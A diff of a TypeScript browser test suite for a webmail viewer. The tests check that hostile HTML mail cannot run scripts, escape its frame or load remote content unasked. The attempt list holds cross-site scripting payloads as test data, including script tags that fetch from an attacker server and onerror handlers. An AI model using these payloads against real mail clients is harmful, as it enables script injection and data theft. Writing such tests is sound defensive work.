@@ -6,7 +6,7 @@ import { Target } from "../served/target.ts";
 import { expectFits, NO_BROWSER, Site } from "./browser.ts";
 import { deliver, htmlMail, line, openViewer, reading, requestsOf } from "./viewer-rig.ts";
 
-/** What a mail tries, each by one line of HTML; `evil` is the address of a server that is not ours. */
+/** Attacks, each as one line of HTML; `evil` is the URL of the attacker's server. */
 const ATTEMPTS: Record<string, (evil: string) => string> = {
   "a script": (evil) => `<script>fetch("${evil}/script"); top.pwned = 1; parent.pwned = 1</script>`,
   "a script elsewhere": (evil) => `<script src="${evil}/script.js"></script>`,
@@ -63,7 +63,7 @@ const ATTEMPTS: Record<string, (evil: string) => string> = {
 
 const subjectOf = (name: string): string => `It tries ${name}.`;
 
-/** What a browser says of an attempt that it refused. */
+/** Messages of a browser that refused an attack. */
 const REFUSED =
   /^request: |^console: (?:Blocked |Unsafe attempt|The Content Security Policy|.*(?:violates the following Content Security Policy|sandboxed))/;
 
@@ -106,7 +106,7 @@ describe.skipIf(NO_BROWSER)("a hostile mail", () => {
     return frame;
   }
 
-  /** What came of an attempt, which is given the time to happen; and fails if it was anything but {@link NOTHING}. */
+  /** Waits until an attack could have happened, and fails if anything did. */
   async function outcome(): Promise<string> {
     await page.waitForTimeout(200);
     expect(page.url()).toContain(`${site.url}/mailbox#/mail/`);
@@ -138,7 +138,7 @@ describe.skipIf(NO_BROWSER)("a hostile mail", () => {
   });
 
   it.each(Object.entries(ATTEMPTS))(
-    "would do nothing by %s were it not cleaned: the frame alone is enough",
+    "does nothing by %s even without the sanitiser: the frame alone is enough",
     async (name, attempt) => {
       await read(subjectOf(name));
       await page.evaluate(
@@ -183,7 +183,7 @@ describe.skipIf(NO_BROWSER)("a hostile mail", () => {
     expect(site.faults(/^request: .*\/(?:top|favicon\.ico)$|^console: /)).toEqual([]);
   });
 
-  it("shows images that lie elsewhere once it is asked, and only images, without saying who reads", async () => {
+  it("loads remote images after the reader asks, nothing but images, and without a referrer", async () => {
     const { service } = site.server;
     const inside = `${site.url}/v1/code?inside`;
     const html = `<p>Before.</p><img src="${evilOrigin()}/seen.png"><img src="${inside}"><p style="background:url(${evilOrigin()}/back.png)">x</p><table background="${evilOrigin()}/back2.png"><tr><td>x</table>
@@ -209,15 +209,37 @@ describe.skipIf(NO_BROWSER)("a hostile mail", () => {
       ]);
     }
     expect(requests.filter((url) => url === inside)).toEqual([]);
-    await page.getByText("Images that lie elsewhere").waitFor({ state: "hidden" });
+    await page.getByText("Remote images are not loaded").waitFor({ state: "hidden" });
     // Asked for once is not asked for ever.
     await read("Look at this");
-    await page.getByText("Images that lie elsewhere").waitFor();
+    await page.getByText("Remote images are not loaded").waitFor();
     expect(evil.received.length).toBe(before + 1);
     site.faults();
   });
 
-  it("could not become markup of the page even by a mistake of ours", async () => {
+  it("is cut where it has more elements than a browser shows quickly, and the page says so", async () => {
+    const html = `<p>Before.</p>${"<b>x</b>".repeat(60_000)}<p>After.</p>`;
+    await deliver(site.server.service, box, htmlMail(html, { subject: "A long one" }));
+    const frame = await read("A long one");
+    await page.getByText("The mail is too long").waitFor();
+    expect(await frame.locator("b").count()).toBeGreaterThan(20_000);
+    expect(await frame.locator("b").count()).toBeLessThan(50_000);
+    expect(await frame.getByText("After.").count()).toBe(0);
+    expect(site.faults()).toEqual([]);
+  });
+
+  it("keeps its styles, those in an HTML comment too", async () => {
+    const html = `<style><!-- p { color: rgb(1, 2, 3) } --></style><p style="font-weight: 700">Before.</p>`;
+    await deliver(site.server.service, box, htmlMail(html, { subject: "A styled one" }));
+    const frame = await read("A styled one");
+    const style = await frame.evaluate<string[]>(
+      "(({ color, fontWeight }) => [color, fontWeight])(getComputedStyle(document.querySelector('p')))",
+    );
+    expect(style).toEqual(["rgb(1, 2, 3)", "700"]);
+    expect(site.faults()).toEqual([]);
+  });
+
+  it("cannot become markup of the page even by a mistake of ours", async () => {
     const attempt = page.evaluate(
       "document.querySelector('main').insertAdjacentHTML('beforeend', '<b>x</b>')",
     );
@@ -225,7 +247,7 @@ describe.skipIf(NO_BROWSER)("a hostile mail", () => {
     site.faults();
   });
 
-  it("is text wherever a stranger's words stand", async () => {
+  it("is shown as text in every other place: subject, names, file names, raw message", async () => {
     const { service } = site.server;
     const words = `"><img src=${evilOrigin()}/word.png onerror=top.pwned=1><script>top.pwned=1</script>`;
     const boundary = "b0undary";
